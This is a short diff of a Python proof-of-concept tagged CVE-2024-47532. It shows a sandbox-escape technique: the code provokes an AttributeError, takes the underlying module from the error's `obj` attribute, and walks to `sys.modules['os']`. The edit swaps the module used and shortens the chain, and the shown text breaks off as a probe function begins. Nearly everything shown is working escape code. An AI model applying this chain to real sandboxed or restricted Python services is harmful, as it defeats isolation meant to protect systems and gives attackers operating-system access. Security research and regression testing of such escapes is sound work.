@@ -5,16 +5,16 @@
 # reference = "CVE-2024-47532"
 # ///
 # `AttributeError.obj` is the object itself, whatever wrapper the lookup went through.
-import string
+import statistics
 
 def stripped():
     try:
-        string.no_such_name
+        statistics.no_such_name
     except AttributeError as error:
         return error.obj
 
 module = stripped()
-found = module._re.enum.sys.modules["os"]
+found = module.sys.modules["os"]
 
 def probe(os):
     actions = (
